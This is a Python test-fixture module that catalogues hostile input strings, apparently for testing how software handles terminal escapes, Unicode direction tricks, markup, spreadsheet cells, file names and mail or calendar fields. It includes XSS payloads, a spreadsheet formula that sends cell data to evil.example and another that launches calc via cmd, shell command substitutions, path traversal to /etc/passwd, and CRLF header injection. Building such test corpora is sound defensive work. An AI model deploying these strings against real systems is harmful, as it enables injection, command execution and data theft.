"""Texts that do harm, on purpose or by chance; each is named after what it would do."""

from __future__ import annotations

TERMINAL = {
    "title": "a\x1b]0;owned\x07b",
    "clipboard": "a\x1b]52;c;eA==\x07b",
    "hyperlink": "\x1b]8;;https://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "colour": "a\x1b[31mred\x1b[0m",
    "colour in C1": "a\x9b31mred\x9b0m",
    "device control": "\x1bP$qm\x1b\\",
    "string in C1": "\x9d0;owned\x9c",
    "application": "\x1b_Gi=1;AAAA\x1b\\",
    "screen": "\x1b[2J\x1b[H\x1bc",
    "mouse": "\x1b[?1003h\x1b[?1049h",
    "escape alone": "\x1b",
    "cut short": "ends in \x1b[",
    "bell and back": "a\x07\x08\x08b\x0c\x0b",
    "delete": "a\x7fb",
    "null": "a\x00b",
    "shift out": "\x0e\x0flqqk",
    "next line": "a\x85b",
}
LINES = {
    "line feed": "first\nsecond",
    "carriage return": "first\rsecond",
    "both": "first\r\nsecond",
    "line separator": "first\u2028second\u2029third",
    "tab": "first\tsecond",
    "only spaces": " \t \n ",
    "ten thousand": "0123456789" * 1000,
    "ten thousand words": "mot " * 2500,
    "a thousand lines": "ligne\n" * 1000,
}
LETTERS = {
    "direction override": "a\u202egpj.exe\u202c",
    "direction isolate": "a\u2066b\u2067c\u2069",
    "direction marks": "\u200ea\u200fb\u061cc",
    "right to left": "שלום عليكم",
    "zero width": "a\u200bb\u200cc\u200dd\u2060e",
    "byte-order mark": "\ufeffa\ufffe",
    "tags": "a\U000e0041\U000e007f",
    "annotation": "\ufff9a\ufffab\ufffb",
    "combining flood": "Z" + "\u0301\u0316\u0489" * 300,
    "emoji": "👩‍👩‍👧‍👦🇫🇷🏴\U000e0067\U000e007f",
    "wide": "日本語テキスト",
    "ornate": "𝓐ﷺ﷽ﬀ",
    "homograph": "аррӏе.com",
    "surrogate": "a\ud800b",
    "undecodable": "caf\udce9",
    "private use": "\ue000\U0010fffe",
    "soft hyphen": "pass\u00adword",
}
MARKUP = {
    "closing markup": "[/]",
    "opening markup": "[b red on blue]loud",
    "an action": "[@click=app.quit]x[/]",
    "a link in markup": "[link=https://evil.example]here[/link]",
    "brackets in brackets": "a [[x] b] \\[c] \\",
    "braces": "{handle} {0} {} %s %(x)s %d {0.__class__}",
    "script": "<script>alert(1)</script>",
    "out of an attribute": "\"><img src=x onerror=alert(1)>' onmouseover='alert(1)",
    "out of a style": "</style></title></textarea><svg/onload=alert(1)>",
    "comment": "<!-- hidden --> ]]> <![CDATA[ x ]]> <?php",
    "entities": "&lt;script&gt; &#x3c; &amp;",
    "template": "{{ 7 * 7 }}{% raw %}{# gone #}",
    "link in Markdown": "[x](javascript:alert(1)) ![x](https://evil.example/x.png)",
    "heading": "# heading\n===\n---",
    "list": "- item\n1. item\n> quote",
    "fence": "```\ncode\n```",
    "table": "| a | b |\n|---|---|",
    "reference": "[x]: https://evil.example",
    "bare address": "www.evil.example https://evil.example/?a=b&c=d evil@evil.example",
    "typst": '#eval("1") #include "x" $x$ @ref <label> *b* _i_ `c` \\',
    "man": ".so /etc/passwd\n'br \\f(BI",
}
TABLES = {
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(A1)",
    "wide equals": "＝1+1",
    "behind a tab": "\t=1+1",
    "behind a separator": 'a";=1+1,"=1+1\n=1+1',
    "number": "0612345678901234567",
    "number with an exponent": "1e5",
}
FILES = {
    "parent": "..",
    "parents": "../../../outside.txt",
    "current": ".",
    "root's own": "/etc/passwd",
    "device": "/dev/zero",
    "reserved": "CON",
    "reserved with a suffix": "aux.txt. ",
    "stream": "name.txt:stream",
    "backslashes": "..\\..\\outside.txt",
    "option": "--help",
    "short option": "-o",
    "glob": "*?[a]",
    "shell": "$(touch owned) `touch owned`; touch owned | touch owned",
    "file": "file:///etc/passwd",
    "home": "~root/x",
}
FORMS = {
    "TOML": '"""\n[[entry]]\nwhat = "undone"\n\'\'\' = # \\u0000',
    "JSON": '"},{"a":"b\\u001b',
    "header": "Subject\r\nBcc: evil@evil.example\r\n\r\nbody",
    "two senders": "a@evil.example, b@evil.example",
    "encoded word": "=?utf-8?q?a=0D=0ABcc:_evil@evil.example?=",
    "folded header": "a\r\n b\r\n\tc",
    "calendar": "x\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:PROCEDURE",
    "calendar's parameter": 'a;VALUE=URI:https://evil.example,b\\n"c"^n',
    "JavaScript": "javascript:alert(1)",
    "data": "data:text/html,<script>alert(1)</script>",
    "another's address": "https://apple.com@evil.example/",
    "address with a script": 'https://a/"><script>alert(1)</script>',
    "address with a line": "https://a/\r\nHost: evil.example",
}
KINDS = {
    "TERMINAL": TERMINAL,
    "LINES": LINES,
    "LETTERS": LETTERS,
    "MARKUP": MARKUP,
    "TABLES": TABLES,
    "FILES": FILES,
    "FORMS": FORMS,
}
CORPUS = {name: text for kind in KINDS.values() for name, text in kind.items()}
TEXTS = tuple(CORPUS.values())
TYPABLE = tuple(text for text in TEXTS if "\x00" not in text and "\ud800" not in text)
"""The texts that can be arguments or environment variables: those without a null character or a lone surrogate."""


def writable(text: str) -> str:
    """The text as a UTF-8 file can hold it, with lone surrogates replaced."""
    return text.encode(errors="replace").decode()
